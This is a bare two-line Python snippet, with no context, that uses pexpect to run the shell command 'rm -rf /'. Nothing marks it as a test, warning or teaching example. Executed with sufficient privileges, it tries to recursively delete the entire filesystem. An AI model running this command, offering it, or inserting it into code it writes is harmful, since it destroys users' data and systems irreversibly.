import pexpect
pexpect.run("rm -rf /")
